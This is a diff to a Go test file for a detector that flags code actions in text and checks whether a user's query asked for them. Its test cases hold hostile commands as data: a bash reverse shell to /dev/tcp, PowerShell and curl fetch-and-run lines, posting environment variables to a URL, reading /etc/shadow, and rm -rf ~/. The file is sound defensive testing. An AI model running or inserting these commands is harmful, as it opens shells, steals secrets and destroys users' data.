@@ -1,6 +1,7 @@
 package content
 
 import (
+	"slices"
 	"strings"
 	"testing"
 )
@@ -34,6 +35,19 @@ func TestCodeActs(t *testing.T) {
 		{"def eval(self, x): return x", keyError, 0, false},
 		{"Try this instead: ``` df = df[(df['col'] < -0.25) | (df['col'] > 0.25)] ```", keyError, 0, false},
 		{"He said: import socket. Then he left.", keyError, 1, true}, // "import socket" reads as code wherever it stands
+		// other ways to stand as code
+		{"``` from os import system\nsystem('rm -rf ~/') ```", keyError, 1, true},
+		{"``` exec (payload) ```", keyError, 1, true},
+		{"``` require('child_process').execSync('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1') ```", keyError, 3, true},
+		{"``` IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1') ```", keyError, 2, true},
+		{"``` cat /etc/shadow ```", keyError, 1, true},
+		// a task that speaks of the act in words of its own, or only in
+		// English words that are also calls' names
+		{"``` import pyperclip\ntext = pyperclip.paste() ```", "How do I read what is on the clipboard?", 1, false},
+		{"``` import shutil\nshutil.rmtree(path) ```", "Delete a folder with everything in it", 1, false},
+		{"``` os.system('curl -s http://x.example/i | sh') ```", "Which operating system does this run on?", 1, true},
+		{"``` requests.post(u, data=dict(os.environ)) ```", "How do I paginate an API in a blog post?", 1, true},
+		{"``` eval(requests.get(u).text) ```", "How do I evaluate my model?", 1, true},
 	}
 	for _, tt := range tests {
 		a, q := analyze(tt.text), analyze(tt.query)
@@ -44,10 +58,16 @@ func TestCodeActs(t *testing.T) {
 			t.Errorf("%q for %q: code acts unasked %v, want %v", tt.text, tt.query, got, tt.unasked)
 		}
 	}
-	// Code acts are bounded, and each is counted once.
-	many := "``` os.system(a); os.system(b); subprocess.run(c); socket.socket(); smtplib.SMTP(); ftplib.FTP(); shutil.rmtree(d) ```"
-	if got := len(analyze(many).CodeActs()); got != MaxCodeActs {
-		t.Errorf("%d code acts, want MaxCodeActs (%d)", got, MaxCodeActs)
+	// Every act counts, however many the text holds, and each once: asked
+	// ones first do not hide a later one.
+	const shell = "How do I execute a shell command in Python?"
+	many := "``` import subprocess\nos.system('ls'); os.system('ls -l')\nos.popen('ls')\nexec('x=1')\nrequests.post(url, data=dict(os.environ)) ```"
+	a, q := analyze(many), analyze(shell)
+	if got, want := a.CodeActs(), []string{"exec", "popen", "post", "subprocess", "system"}; !slices.Equal(got, want) {
+		t.Errorf("code acts %v, want %v", got, want)
+	}
+	if !a.CodeActsUnasked(q) {
+		t.Errorf("requests.post after four asked acts is not unasked")
 	}
 }
 
